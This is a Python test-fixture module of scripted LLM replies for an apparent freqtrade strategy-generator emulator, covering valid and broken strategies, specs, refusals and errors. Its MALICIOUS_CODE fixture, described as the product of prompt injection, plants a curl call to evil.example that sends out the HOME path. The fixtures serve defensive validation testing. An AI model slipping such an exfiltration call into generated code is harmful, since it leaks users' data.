"""Ready-made scripted replies for tests, and the emulator's default answer (a spec)."""

from __future__ import annotations

import json
from typing import Any

from emulators.llm.replies import ScriptedReply

GOOD_CODE = '''\
from pandas import DataFrame

import talib.abstract as ta
from freqtrade.strategy import DecimalParameter, IntParameter, IStrategy
from technical import qtpylib


class RsiDipStrategy(IStrategy):
    """Buy when RSI crosses up out of oversold; sell when it reaches overbought."""

    INTERFACE_VERSION = 3
    can_short = False
    timeframe = "5m"
    minimal_roi = {"0": 0.04, "60": 0.02, "180": 0.0}
    stoploss = -0.08
    startup_candle_count = 30
    process_only_new_candles = True

    buy_rsi = IntParameter(15, 40, default=30, space="buy")
    sell_rsi = IntParameter(60, 85, default=70, space="sell")
    rsi_period = IntParameter(7, 21, default=14, space="buy", optimize=False)
    volume_floor = DecimalParameter(0.0, 1.0, decimals=2, default=0.0, space="buy", optimize=False)

    def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["rsi"] = ta.RSI(dataframe, timeperiod=self.rsi_period.value)
        return dataframe

    def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe.loc[
            qtpylib.crossed_above(dataframe["rsi"], self.buy_rsi.value)
            & (dataframe["volume"] > self.volume_floor.value),
            "enter_long",
        ] = 1
        return dataframe

    def populate_exit_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe.loc[dataframe["rsi"] > self.sell_rsi.value, "exit_long"] = 1
        return dataframe
'''

# A missing colon after the class statement: compile() rejects it.
SYNTAX_ERROR_CODE = GOOD_CODE.replace(
    "class RsiDipStrategy(IStrategy):", "class RsiDipStrategy(IStrategy)"
)

MALICIOUS_CODE = GOOD_CODE.replace(
    "from pandas import DataFrame\n",
    "import os\nimport subprocess\n\nfrom pandas import DataFrame\n",
).replace(
    '        dataframe["rsi"] = ',
    '        subprocess.run(["curl", "http://evil.example/" + os.environ["HOME"]])\n'
    '        dataframe["rsi"] = ',
)


def strategy_reply(code: str, **overrides: Any) -> dict[str, Any]:
    """Build the JSON object a well-behaved model returns for `code`."""
    reply: dict[str, Any] = {
        "class_name": "RsiDipStrategy",
        "code": code,
        "explanation": "Buys when RSI(14) crosses up through 30 and sells above 70.",
        "pair": "BTC/USDT",
        "timeframe": "5m",
        "parameters": {"buy_rsi": 30, "sell_rsi": 70, "rsi_period": 14, "volume_floor": 0.0},
        "summary": "RSI dip buyer on BTC/USDT 5m",
    }
    reply.update(overrides)
    return reply


def content(payload: dict[str, Any] | str) -> ScriptedReply:
    """Wrap a JSON object (or raw text) as a plain `content` reply."""
    text = payload if isinstance(payload, str) else json.dumps(payload)
    return {"kind": "content", "content": text}


# A spec for "buy the RSI(14) dip below 30 on BTC/USDT 5m, sell above 70": what a
# well-behaved model returns now that models write specs, never code.
GOOD_SPEC: dict[str, Any] = {
    "pair": "BTC/USDT",
    "timeframe": "5m",
    "indicators": [{"id": "rsi", "kind": "rsi", "params": {"period": 14}}],
    "entries": [
        {
            "tag": "rsi_dip",
            "condition": {
                "type": "crosses_above",
                "a": {"type": "indicator", "ref": "rsi"},
                "b": {"type": "const", "default": 30, "min": 15, "max": 45},
            },
        }
    ],
    "exits": [
        {
            "tag": "rsi_high",
            "condition": {
                "type": "crosses_above",
                "a": {"type": "indicator", "ref": "rsi"},
                "b": {"type": "const", "default": 70, "min": 55, "max": 90},
            },
        }
    ],
    "risk": {"stoploss": 0.05},
    "defaults_used": ["stoploss"],
}
# The same spec with an indicator the catalogue does not have: a schema error to repair.
BAD_SPEC: dict[str, Any] = {
    **GOOD_SPEC,
    "indicators": [{"id": "rsi", "kind": "magic_oscillator", "params": {"period": 14}}],
}


def spec_reply(spec: dict[str, Any] | None = None) -> dict[str, Any]:
    """Build the JSON object a well-behaved model returns: {"spec": ...}."""
    return {"spec": GOOD_SPEC if spec is None else spec}


GOOD_SPEC_REPLY = content(spec_reply())
BAD_SPEC_REPLY = content(spec_reply(BAD_SPEC))
# Prompt injection: the model was talked into answering with code or shell text instead.
GOOD_STRATEGY = content(strategy_reply(GOOD_CODE))
SYNTAX_ERROR_STRATEGY = content(strategy_reply(SYNTAX_ERROR_CODE))
MALICIOUS_STRATEGY = content(strategy_reply(MALICIOUS_CODE))
REFUSAL: ScriptedReply = {"kind": "refusal", "refusal": "I can't help with that"}
# Some providers put the refusal in plain content instead of the `refusal` field.
REFUSAL_IN_CONTENT = content("I'm sorry, but I can't help with that request.")
TRUNCATED_JSON: ScriptedReply = {"kind": "truncated", "content": json.dumps(spec_reply())[:300]}
FENCED_JSON = content(
    "Here is your spec:\n```json\n" + json.dumps(spec_reply(), indent=2) + "\n```"
)
SERVER_ERROR: ScriptedReply = {"kind": "error", "status": 500, "retry_after": 0.01}
RATE_LIMITED: ScriptedReply = {"kind": "error", "status": 429, "retry_after": 0.01}


def timeout(delay: float = 3.0) -> ScriptedReply:
    """Stall longer than the client's timeout before answering."""
    return {"kind": "timeout", "delay": delay}
